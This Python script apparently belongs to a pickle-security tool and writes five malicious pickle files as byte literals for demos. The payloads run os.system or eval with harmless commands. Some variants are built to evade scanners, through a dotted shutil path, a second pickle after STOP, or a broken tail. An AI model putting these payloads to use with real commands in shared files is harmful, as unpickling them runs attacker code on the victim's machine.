#!/usr/bin/python3
"""Writes example malicious pickles, byte by byte, for demos and the README.

Nothing here pickles a live object or loads anything: each file is a bytes
literal spelling out the opcodes. The payloads only name `id`/`echo`, but
they are real attacks: never load these files with pickle.
"""
import pathlib

HERE = pathlib.Path(__file__).resolve().parent

ATTACKS = {
    # The classic: GLOBAL os.system, REDUCE.
    "os_system_protocol0.pkl": b"cos\nsystem\n(S'id'\ntR.",
    # Python 2 spelling: find_class maps __builtin__ to builtins below protocol 3.
    "builtin_eval_protocol2.pkl": b"\x80\x02c__builtin__\neval\nX\x10\x00\x00\x00__import__('os')\x85R.",
    # Protocol 4 dotted name: shutil's attribute os, then its system.
    "dotted_shutil_os_system.pkl": b"\x80\x04\x8c\x06shutil\x8c\tos.system\x93\x8c\x07echo hi\x85R.",
    # A harmless pickle, then a second one after STOP that a reader calling
    # pickle.load twice would run.
    "second_pickle_after_stop.pkl": b"\x80\x04K\x2a.cos\nsystem\n(S'id'\ntR.",
    # The payload runs, then the stream breaks so a scanner that gives up on
    # errors reports nothing.
    "payload_then_broken_tail.pkl": b"cos\nsystem\n(S'id'\ntR\xff\xff",
}


def main():
    for name, data in ATTACKS.items():
        (HERE / name).write_bytes(data)
    print(f"wrote {len(ATTACKS)} files to {HERE}")


if __name__ == "__main__":
    main()
